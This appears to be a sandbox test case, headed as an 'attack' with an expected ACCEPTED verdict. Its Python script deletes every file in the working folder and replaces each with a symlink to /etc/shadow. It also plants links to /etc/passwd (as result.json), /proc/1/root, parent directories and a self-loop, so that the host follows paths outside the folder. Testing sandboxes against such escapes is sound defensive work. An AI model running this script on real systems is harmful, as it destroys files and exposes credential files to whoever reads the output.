# [attack]
# title = "Replaces its own files by links"
# mode = "program"
# verdict = ["ACCEPTED"]
# stdout_has = "linked"
"""Whoever follows a path of the working folder from outside would read or write elsewhere."""
import os

here = os.getcwd()
for name in os.listdir(here):
    try:
        os.unlink(name)
        os.symlink("/etc/shadow", name)
    except OSError:
        pass
for name, target in (("out", "/proc/1/fd/1"), ("up", "../../../.."), ("loop", "loop"), ("root", "/proc/1/root"), ("result.json", "/etc/passwd")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
print("linked")
